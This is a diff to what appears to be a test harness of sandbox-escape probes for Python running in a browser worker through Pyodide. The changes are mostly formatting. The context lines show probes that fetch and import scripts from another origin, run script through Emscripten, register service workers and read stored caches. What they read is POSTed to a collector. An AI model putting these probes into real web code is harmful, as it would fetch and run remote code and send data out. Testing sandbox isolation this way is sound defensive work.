@@ -6,6 +6,7 @@ could read: it is kept for the next run to print, and told to the collector.
 """
 
 import asyncio
+import contextlib
 import json
 
 import js
@@ -56,7 +57,7 @@ def blob(text, kind="text/javascript"):
     return js.URL.createObjectURL(js.Blob.new(parts, plain(type=kind)))
 
 
-# -- to another origin, by what a worker has ------------------------------------------
+# -- to another origin, by what a worker has ----------------------------------
 
 
 @attack
@@ -218,7 +219,7 @@ async def a_form_of_the_document(at, read):
     form.submit()
 
 
-# -- code from elsewhere -----------------------------------------------------------------
+# -- code from elsewhere ------------------------------------------------------
 
 
 @alone
@@ -272,7 +273,7 @@ async def script_of_emscripten(at, read):
     ctypes.CDLL(None).emscripten_run_script(text.encode())
 
 
-# -- Pyodide's and Emscripten's own ways ------------------------------------------------
+# -- Pyodide's and Emscripten's own ways --------------------------------------
 
 
 @alone
@@ -357,7 +358,7 @@ async def read_async_of_emscripten(at, read):
     await pyodide_js._module.readAsync(at)
 
 
-# -- workers in the worker -----------------------------------------------------------
+# -- workers in the worker ----------------------------------------------------
 
 
 def quiet(there):
@@ -371,7 +372,8 @@ def worker(address, **options):
 
 
 def asking(at):
-    return f"fetch('{at}').catch(() => 0); try {{ importScripts('{at}x.js') }} catch {{}}"
+    first = f"fetch('{at}').catch(() => 0)"
+    return first + f"; try {{ importScripts('{at}x.js') }} catch {{}}"
 
 
 @attack
@@ -428,7 +430,7 @@ async def service_worker_of_the_prototype(at, read):
             await there.register(GIVEN["site"] + "service_worker_of_the_prototype.js")
 
 
-# -- what the page stores: read -----------------------------------------------------------
+# -- what the page stores: read -----------------------------------------------
 
 
 async def everything_in(caches, read):
@@ -564,7 +566,7 @@ async def listen_on_a_channel(at, read):
     there.onmessage = create_proxy(lambda event: read(str(event.data)))
 
 
-# -- what the page stores: changed ------------------------------------------------------
+# -- what the page stores: changed --------------------------------------------
 
 
 @attack
@@ -684,10 +686,8 @@ async def carried_out(name, function):
         if str(text)[:9000] in note["read"]:
             return
         note["read"].append(str(text)[:9000])
-        try:
+        with contextlib.suppress(BaseException):
             js.fetch(at, plain(method="POST", body="read: " + str(text)))
-        except BaseException:
-            pass
 
     try:
         await asyncio.wait_for(function(at, read), 3)
@@ -707,4 +707,4 @@ async def all_of_them():
     await asyncio.gather(*(carried_out(*each) for each in ATTACKS.items()))
 
 
-TASK = asyncio.ensure_future(all_of_them())
+FOUND["task"] = asyncio.ensure_future(all_of_them())
